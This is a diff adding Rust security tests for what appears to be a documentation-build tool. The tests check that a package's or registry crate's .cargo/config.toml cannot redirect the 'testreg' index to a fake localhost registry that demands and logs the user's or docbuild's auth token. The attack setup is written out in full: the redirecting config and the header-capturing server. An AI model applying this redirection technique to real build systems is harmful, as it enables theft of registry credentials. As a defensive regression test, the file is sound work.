@@ -390,3 +390,210 @@ fn a_registry_crate_s_rustc_wrapper_never_runs_on_the_host() {
     let job = world.job(id);
     assert_eq!(job["outcome"], "success", "{job:#}");
 }
+
+// Attack 2: token theft through a crate's cargo configuration.
+
+/// A registry server run by an attacker: it asks for a token like any registry
+/// that requires authentication, and records the head of every request it gets.
+struct Eavesdropper {
+    port: u16,
+    heads: Heads,
+}
+
+/// The heads of the requests a server got.
+type Heads = std::sync::Arc<std::sync::Mutex<Vec<String>>>;
+
+impl Eavesdropper {
+    fn start() -> Self {
+        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        let port = listener.local_addr().unwrap().port();
+        let heads = Heads::default();
+        let seen = heads.clone();
+        std::thread::spawn(move || {
+            for stream in listener.incoming().flatten() {
+                let seen = seen.clone();
+                std::thread::spawn(move || eavesdrop(stream, port, &seen));
+            }
+        });
+        Self { port, heads }
+    }
+
+    fn index_url(&self) -> String {
+        format!("sparse+http://127.0.0.1:{}/index/", self.port)
+    }
+
+    fn heads_containing(&self, needle: &str) -> Vec<String> {
+        self.heads
+            .lock()
+            .unwrap()
+            .iter()
+            .filter(|head| head.contains(needle))
+            .cloned()
+            .collect()
+    }
+}
+
+fn eavesdrop(stream: std::net::TcpStream, port: u16, heads: &std::sync::Mutex<Vec<String>>) {
+    use std::io::{BufRead, BufReader, Write};
+
+    let mut reader = BufReader::new(stream.try_clone().unwrap());
+    let mut stream = stream;
+    loop {
+        let mut head = String::new();
+        loop {
+            let mut line = String::new();
+            if reader.read_line(&mut line).unwrap_or(0) == 0 {
+                return;
+            }
+            if line.trim_end().is_empty() {
+                break;
+            }
+            head.push_str(&line);
+        }
+        heads.lock().unwrap().push(head.clone());
+        let path = head.split_whitespace().nth(1).unwrap_or("/").to_string();
+        let authorized = head
+            .lines()
+            .any(|line| line.to_ascii_lowercase().starts_with("authorization:"));
+        let (status, extra, body) = if !authorized {
+            (
+                "401 Unauthorized",
+                "www-authenticate: Cargo login_url=\"http://127.0.0.1/login\"\r\n",
+                "token required".to_string(),
+            )
+        } else if path == "/index/config.json" {
+            let config = serde_json::json!({
+                "dl": format!("http://127.0.0.1:{port}/dl/{{crate}}/{{version}}"),
+                "auth-required": true,
+            });
+            ("200 OK", "", config.to_string())
+        } else {
+            ("404 Not Found", "", "not found".to_string())
+        };
+        let response = format!(
+            "HTTP/1.1 {status}\r\ncontent-length: {}\r\n{extra}\r\n{body}",
+            body.len()
+        );
+        if stream.write_all(response.as_bytes()).is_err() {
+            return;
+        }
+    }
+}
+
+// Attack 2 (token theft): the user's cargo configuration names `testreg` and holds
+// its token; a local package's own `.cargo/config.toml` points `testreg` at another
+// server and depends on a crate of `testreg`. That server never gets the token: not
+// from `check` (either source mode), nor from `queue add` and a worker.
+#[test]
+fn a_package_s_cargo_config_cannot_send_the_user_s_token_elsewhere() {
+    let world = World::new();
+    let token = format!(
+        "hostile-user-token-{}",
+        world.path().file_name().unwrap().to_string_lossy()
+    );
+    let registry = TestRegistry::start(Some(&token));
+    registry.publish(
+        "provided",
+        "0.1.0",
+        "",
+        &[("src/lib.rs", "/// Provided.\npub struct Provided;\n")],
+        &[],
+    );
+    let thief = Eavesdropper::start();
+    world.write_user_cargo_config(
+        &testreg_with_token_provider(&registry.index_url()),
+        Some(&token),
+    );
+    let package = world.package("hostile-registry-dep", "hostile-registry-dep");
+    std::fs::create_dir_all(package.join(".cargo")).unwrap();
+    std::fs::write(
+        package.join(".cargo/config.toml"),
+        format!("[registries.testreg]\nindex = \"{}\"\n", thief.index_url()),
+    )
+    .unwrap();
+
+    let steps: [(&str, &dyn Fn()); 3] = [
+        ("check", &|| {
+            world.check(&package, &[]);
+        }),
+        ("check --no-package", &|| {
+            world.check(&package, &["--no-package"]);
+        }),
+        ("queue add PATH + worker --once", &|| {
+            let _ = world.try_add(&[package.to_str().unwrap()]);
+            world.work();
+        }),
+    ];
+    for (step, run) in steps {
+        run();
+        let stolen = thief.heads_containing(&token);
+        assert!(
+            stolen.is_empty(),
+            "{step}: the token reached a server the user never configured:\n{stolen:#?}"
+        );
+    }
+}
+
+// Attack 2 (token theft) through a registry crate: docbuild.toml gives `testreg` a
+// token; a crate of `testreg` ships `.cargo/config.toml` pointing `testreg` at
+// another server and depends on a crate of `testreg`. Built by a worker, that
+// server never gets the token.
+#[test]
+fn a_registry_crate_s_cargo_config_cannot_send_docbuild_s_token_elsewhere() {
+    let world = World::new();
+    let token = format!(
+        "hostile-docbuild-token-{}",
+        world.path().file_name().unwrap().to_string_lossy()
+    );
+    let registry = TestRegistry::start(Some(&token));
+    registry.publish(
+        "provided",
+        "0.1.0",
+        "",
+        &[("src/lib.rs", "/// Provided.\npub struct Provided;\n")],
+        &[],
+    );
+    let thief = Eavesdropper::start();
+    let manifest = "[package]\nname = \"token-thief\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\
+                    description = \"x\"\nlicense = \"MIT\"\n\n\
+                    [dependencies]\nprovided = { version = \"0.1\", registry = \"testreg\" }\n";
+    let config = format!("[registries.testreg]\nindex = \"{}\"\n", thief.index_url());
+    let archive = crate_archive(&[
+        ("token-thief-0.1.0/Cargo.toml", manifest.as_bytes(), 0o644),
+        (
+            "token-thief-0.1.0/Cargo.toml.orig",
+            manifest.as_bytes(),
+            0o644,
+        ),
+        (
+            "token-thief-0.1.0/src/lib.rs",
+            b"//! Thief.\n\npub use provided::Provided;\n",
+            0o644,
+        ),
+        (
+            "token-thief-0.1.0/.cargo/config.toml",
+            config.as_bytes(),
+            0o644,
+        ),
+    ]);
+    let sum = registry::sha256(&archive);
+    registry.publish_raw("token-thief", "0.1.0", archive, &sum, &["provided"]);
+    world.write_docbuild_toml(&registry.index_url(), Some(&token));
+
+    world.add(&["token-thief@0.1.0", "--registry", "testreg"]);
+    world.work();
+    assert!(
+        registry
+            .requests
+            .lock()
+            .unwrap()
+            .iter()
+            .any(|(path, _)| path.starts_with("/dl/token-thief/0.1.0 200")),
+        "the worker downloaded the crate"
+    );
+    let stolen = thief.heads_containing(&token);
+    assert!(
+        stolen.is_empty(),
+        "the token reached a server no one configured:\n{stolen:#?}"
+    );
+}
